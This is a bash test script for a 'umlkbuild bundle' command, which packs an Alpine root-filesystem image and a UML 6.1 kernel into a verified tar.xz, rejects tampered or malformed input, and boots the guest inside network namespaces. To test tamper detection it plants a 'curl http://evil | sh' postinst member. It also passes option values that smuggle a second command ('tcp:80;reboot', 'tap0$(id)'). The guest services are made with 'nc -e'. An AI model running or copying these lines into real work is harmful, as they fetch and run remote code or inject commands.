#!/bin/bash
# `umlkbuild bundle` (issue #13): the image of 80-rootfs.t and the suite's
# 6.1 kernel in one tar.xz, stored sparse, reproducible, checked by
# --verify and refused when tampered with (README rows 150 to 163); then
# unpacked into an empty directory inside a private network namespace and
# started with its own run.sh: the guest answers TCP and UDP at 10.0.0.2
# from the host side of the TAP, and TCP through run.sh's port forward
# from a second namespace.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/mirror.sh"

need_root
FIX="$TOP/../shared/fixtures/alpine"
if [ ! -f "$FIX/alpine-minirootfs-3.20.3-x86_64.tar.gz" ]; then
	echo "Bail out! the Alpine fixtures are missing: '$FIX'"
	exit 1
fi
need_artifact_61 || { echo "Bail out! the shared 6.1 artifact does not build"; exit 1; }
export UKB_CONFIG_NOSYSTEM=1 XDG_CONFIG_HOME="$T/xdg"
C="$T/cache"

mirror_gpg_init "$T/gpg"
fpr=$(mirror_gen_key alpine)
KEY="$MIRROR_KEYS/alpine.asc"
alpine_tree "$T/srv/good" 3.20.3 x86_64 "$FIX/alpine-minirootfs-3.20.3-x86_64.tar.gz" "$fpr"
alpine_tree "$T/srv/good" 3.20.3 x86 "$FIX/alpine-minirootfs-3.20.3-x86.tar.gz" "$fpr"
nginx_start "$T/srv" || { echo "Bail out! nginx does not start"; exit 1; }
M="$NGINX_URL/good"

# ---- the two halves -------------------------------------------------------
run "$UKB" --cache "$C" rootfs --alpine 3.20.3 --mirror "$M" --keyring "$KEY" \
	--size 256M --start 'nc -lk -p 8080 -e /bin/echo hello-from-guest &' \
	--start 'while :; do nc -u -l -p 5353 -e /bin/echo udp-from-guest; done &' \
	--out "$T/img/rootfs.img"
expect_exit 0 "the image, as 80-rootfs.t makes it"
K="$T/kernel"
cp -a "$ARTIFACT_61" "$K"
IMG="$T/img/rootfs.img"
B="$T/bundle/uml-x86_64.tar.xz"

# ---- the bundle -----------------------------------------------------------
run "$UKB" bundle --kernel "$K" --rootfs "$IMG" --forward tcp:8080 --out "$B"
expect_exit 0 "bundle --kernel --rootfs --out"
expect_out "^$B\$" "the bundle's path on stdout"
check "published atomically: no staging file left" \
	sh -c "! ls '$B'.tmp-* >/dev/null 2>&1"
tar -tvJf "$B" >"$T/list" 2>&1
check "six members under uml-x86_64/, sparse ones as GNU tar reads them" sh -c "
	[ \$(grep -c ' uml-x86_64/[A-Za-z]' '$T/list') -eq 6 ] &&
	grep -q 'uml-x86_64/rootfs.img\$' '$T/list' && grep -q 'uml-x86_64/run.sh\$' '$T/list'"
check "rootfs.img is stored sparse: the tar.xz is a fraction of the image" \
	test "$(stat -c %s "$B")" -lt $(( $(stat -c %s "$IMG") / 8 ))
diag "bundle $(stat -c %s "$B") bytes; image $(stat -c %s "$IMG") bytes, $(du -k "$IMG" | cut -f1) KiB used"
mkdir -p "$T/x"
tar -C "$T/x" -xJf "$B"
X="$T/x/uml-x86_64"
check "GNU tar restores the image bit for bit, still sparse" sh -c "
	cmp -s '$IMG' '$X/rootfs.img' &&
	[ \$(du -k '$X/rootfs.img' | cut -f1) -lt \$(( \$(stat -c %s '$X/rootfs.img') / 1024 / 2 )) ]"
check "and vmlinux, executable" sh -c "cmp -s '$K/vmlinux' '$X/vmlinux' && [ -x '$X/vmlinux' ]"
check "sha256sum -c SHA256SUMS passes in the unpacked directory" \
	sh -c "cd '$X' && sha256sum -c --quiet SHA256SUMS"
check "metadata.json holds both halves' inputs, whole" bash -c "
	jq -S .kernel '$X/metadata.json' | cmp -s - <(jq -S . '$K/metadata.json') &&
	jq -S .rootfs '$X/metadata.json' | cmp -s - <(jq -S . '$T/img/rootfs.json')" 
check "run.sh is POSIX sh (sh -n) with the image's network" sh -c "
	sh -n '$X/run.sh' && grep -q \"HOST_IP='10.0.0.1/24' GUEST_IP='10.0.0.2' NET='tuntap'\" '$X/run.sh'"
check "README names the kernel and the distribution" sh -c "
	grep -q 'Linux 6.1' '$X/README' && grep -q 'alpine 3.20.3' '$X/README'"

run "$UKB" bundle --kernel "$K" --rootfs "$IMG" --forward tcp:8080 --out "$T/again/uml-x86_64.tar.xz"
check "same inputs, same bundle sha256" \
	test "$(sha256sum <"$B")" = "$(sha256sum <"$T/again/uml-x86_64.tar.xz")"
rm -rf "$T/again"

run "$UKB" bundle --verify "$B"
expect_exit 0 "bundle --verify accepts it"
expect_out "^$B: ok: Linux 6.1.[0-9]+ x86_64 and alpine 3.20.3, 6 members checked\$" \
	"one line on stdout says what was checked"

# ---- bad input (README rows 150 to 163) ----------------------------------
# repack DIR OUT: a bundle re-made by GNU tar from an unpacked tree
repack() { tar -C "$1" -cJf "$2" uml-x86_64; }
tree_copy() { rm -rf "$T/t"; mkdir -p "$T/t"; cp -a --sparse=always "$X" "$T/t/"; }
tree_copy
printf 'x' | dd of="$T/t/uml-x86_64/rootfs.img" bs=1 seek=2000000 conv=notrunc 2>/dev/null
repack "$T/t" "$T/tampered.tar.xz"
DESC="bundle --verify: a tampered member" row 150 7 \
	"^error: '$T/tampered.tar.xz': member 'rootfs.img' does not match SHA256SUMS: expected sha256 [0-9a-f]{64}, got [0-9a-f]{64}\$" \
	"$UKB" bundle --verify "$T/tampered.tar.xz"
tree_copy
rm "$T/t/uml-x86_64/README"
repack "$T/t" "$T/missing.tar.xz"
DESC="bundle --verify: a missing member" row 151 7 \
	"^error: '$T/missing.tar.xz' lacks the member 'uml-x86_64/README'\$" \
	"$UKB" bundle --verify "$T/missing.tar.xz"
tree_copy
echo 'curl http://evil | sh' >"$T/t/uml-x86_64/postinst"
repack "$T/t" "$T/extra.tar.xz"
DESC="bundle --verify: an extra member" row 152 7 \
	"^error: '$T/extra.tar.xz' has a member no bundle has: 'uml-x86_64/postinst'\$" \
	"$UKB" bundle --verify "$T/extra.tar.xz"
echo 'not a bundle' >"$T/text.tar.xz"
DESC="bundle --verify: not a bundle" row 153 3 \
	"^error: cannot read '$T/text.tar.xz': " \
	"$UKB" bundle --verify "$T/text.tar.xz"
tree_copy
# a consistent SHA256SUMS over another vmlinux: the metadata disagrees
printf '\n' >>"$T/t/uml-x86_64/vmlinux"
(cd "$T/t/uml-x86_64" && sha256sum vmlinux rootfs.img run.sh README metadata.json >SHA256SUMS)
repack "$T/t" "$T/meta.tar.xz"
DESC="bundle --verify: members that disagree with metadata.json" row 154 7 \
	"^error: '$T/meta.tar.xz': metadata.json's bundle.members says [0-9a-f]{64} of 'vmlinux', the member is [0-9a-f]{64}\$" \
	"$UKB" bundle --verify "$T/meta.tar.xz"
DESC="bundle --verify: no such file" row 155 2 \
	"^error: cannot read '$T/nope.tar.xz': No such file or directory\$" \
	"$UKB" bundle --verify "$T/nope.tar.xz"
rm -rf "$T/t"

BO="$T/bad/uml.tar.xz"
row_check() {
	local p
	for p in "$BO" "$BO".tmp-*; do [ -e "$p" ] && bad+=("left '$p' behind"); done
}
mkdir -p "$T/bad" "$T/nokernel"
DESC="bundle: --kernel is not an artifact" row 156 2 \
	"^error: --kernel '$T/nokernel' is not a umlkbuild kernel artifact: it has no 'metadata.json'\$" \
	"$UKB" bundle --kernel "$T/nokernel" --rootfs "$IMG" --out "$BO"
cp -a "$K" "$T/k2"
printf '\n' >>"$T/k2/vmlinux"
DESC="bundle: a vmlinux that is not its metadata's" row 157 7 \
	"^error: '$T/k2/vmlinux' does not match its metadata.json: expected sha256 [0-9a-f]{64}, got [0-9a-f]{64}\$" \
	"$UKB" bundle --kernel "$T/k2" --rootfs "$IMG" --out "$BO"
rm -rf "$T/k2"
cp --sparse=always "$IMG" "$T/bad/alone.img"
DESC="bundle: an image without its rootfs.json" row 158 2 \
	"^error: --rootfs '$T/bad/alone.img' has no '$T/bad/alone.json' beside it: make the image with 'umlkbuild rootfs'\$" \
	"$UKB" bundle --kernel "$K" --rootfs "$T/bad/alone.img" --out "$BO"
cp "$T/img/rootfs.json" "$T/bad/alone.json"
printf 'x' | dd of="$T/bad/alone.img" bs=1 seek=3000000 conv=notrunc 2>/dev/null
DESC="bundle: an image that is not its rootfs.json's" row 159 7 \
	"^error: '$T/bad/alone.img' does not match its '$T/bad/alone.json': expected sha256 [0-9a-f]{64}, got [0-9a-f]{64}\$" \
	"$UKB" bundle --kernel "$K" --rootfs "$T/bad/alone.img" --out "$BO"
rm -f "$T/bad/alone.img" "$T/bad/alone.json"
run "$UKB" --cache "$C" rootfs --arch i386 --alpine 3.20.3 --mirror "$M" \
	--keyring "$KEY" --size 64M --swap 0 --out "$T/i386/rootfs.img"
DESC="bundle: a kernel and an image of two arches" row 160 2 \
	"^error: the kernel is x86_64 but the image '$T/i386/rootfs.img' is i386: bundle a kernel and an image of one arch\$" \
	"$UKB" bundle --kernel "$K" --rootfs "$T/i386/rootfs.img" --out "$BO"
rm -rf "$T/i386"
DESC="bundle: --out is not a .tar.xz" row 161 2 \
	"^error: --out '$T/bad/uml.tgz' must name a NAME.tar.xz file\$" \
	"$UKB" bundle --kernel "$K" --rootfs "$IMG" --out "$T/bad/uml.tgz"
DESC="bundle: a malformed --forward" row 162 2 \
	"^error: invalid --forward 'tcp:80;reboot': ports are numbers 1 to 65535, a range LO-HI\$" \
	"$UKB" bundle --kernel "$K" --rootfs "$IMG" --forward 'tcp:80;reboot' --out "$BO"
DESC="bundle: a malformed --tap" row 163 2 \
	"^error: invalid --tap 'tap0\\\$\\(id\\)': 1 to 15 letters, digits, '_', '.' or '-'\$" \
	"$UKB" bundle --kernel "$K" --rootfs "$IMG" --tap 'tap0$(id)' --out "$BO"
unset -f row_check

# ---- unpacked in an empty directory, started with its own run.sh ------------
NS=ukb-bundle-$$
CL=ukb-bundle-$$-c
at_exit "ip netns del $NS 2>/dev/null; ip netns del $CL 2>/dev/null"
ip netns add "$NS"
ip netns add "$CL"
# the host's "internet" side: a veth to a client namespace, the default route
ip -n "$NS" link set lo up
ip -n "$NS" link add ukbwan0 type veth peer name ukbcl0 netns "$CL"
ip -n "$NS" addr add 192.0.2.1/24 dev ukbwan0
ip -n "$NS" link set ukbwan0 up
ip -n "$NS" route add default via 192.0.2.254
ip -n "$CL" link set lo up
ip -n "$CL" addr add 192.0.2.254/24 dev ukbcl0
ip -n "$CL" link set ukbcl0 up
mkdir -p "$T/host/run" "$T/host/home"
tar -C "$T/host/run" -xJf "$B"
R="$T/host/run/uml-x86_64"
check "unpacked into an empty directory" test -x "$R/run.sh"
setsid ip netns exec "$NS" env HOME="$T/host/home" PATH="$PATH" \
	UML_TAP=ukbtap0 "$R/run.sh" umid=ukbbundle \
	>"$T/console.log" 2>&1 </dev/null &
vm=$!
at_exit "kill -9 -- -$vm 2>/dev/null"
for i in $(seq 240); do
	grep -q 'login:' "$T/console.log" && break
	kill -0 "$vm" 2>/dev/null || break
	sleep 0.5
done
check "run.sh started the VM: the login prompt on the console" grep -q 'login:' "$T/console.log"
check "run.sh said what it set up" sh -c "
	grep -q 'run.sh: ukbtap0 is 10.0.0.1/24, the guest 10.0.0.2' '$T/console.log' &&
	grep -q 'run.sh: NAT out through ukbwan0, forwarding tcp:8080' '$T/console.log'"
ip netns exec "$NS" iptables -w -t nat -S >"$T/nat" 2>&1
check "the NAT and the forward, as the seeds' iptables lines" sh -c "
	grep -q -- '-A POSTROUTING -s 10.0.0.0/24 -o ukbwan0 -j MASQUERADE' '$T/nat' &&
	grep -q -- '-A PREROUTING -i ukbwan0 -p tcp -m tcp --dport 22 -j RETURN' '$T/nat' &&
	grep -q -- '-A PREROUTING -i ukbwan0 -p tcp -m tcp --dport 8080 -j DNAT --to-destination 10.0.0.2' '$T/nat'"
tcp_get() { # NS HOST: the guest's TCP greeting, tried for 20 s
	local i
	for i in $(seq 40); do
		ip netns exec "$1" bash -c "exec 3<>/dev/tcp/$2/8080 && timeout 5 cat <&3" \
			>"$T/tcp" 2>/dev/null
		grep -q hello-from-guest "$T/tcp" && return 0
		sleep 0.5
	done
	return 1
}
check "the guest answers TCP at 10.0.0.2 from the host side of the TAP" tcp_get "$NS" 10.0.0.2
udp_get() {
	local i
	for i in $(seq 20); do
		ip netns exec "$NS" bash -c 'exec 3<>/dev/udp/10.0.0.2/5353; echo ping >&3;
			timeout 2 dd bs=2000 count=1 <&3 2>/dev/null' >"$T/udp"
		grep -q udp-from-guest "$T/udp" && return 0
		sleep 0.5
	done
	return 1
}
check "the guest answers UDP at 10.0.0.2 from the host side of the TAP" udp_get
check "and TCP through run.sh's forward, from outside (192.0.2.1:8080)" tcp_get "$CL" 192.0.2.1
kill -9 -- -"$vm" 2>/dev/null
wait "$vm" 2>/dev/null
ip netns exec "$NS" env PATH="$PATH" UML_TAP=ukbtap0 "$R/run.sh" net-down >"$T/down" 2>&1
ip netns exec "$NS" iptables -w -t nat -S >"$T/nat" 2>&1
check "run.sh net-down removes the TAP and the rules" sh -c "
	! ip -n '$NS' link show ukbtap0 >/dev/null 2>&1 && ! grep -q 'DNAT\|MASQUERADE' '$T/nat'"
grep -q 'login:' "$T/console.log" || sed 's/^/#   console: /' "$T/console.log" | tail -n 30

done_testing
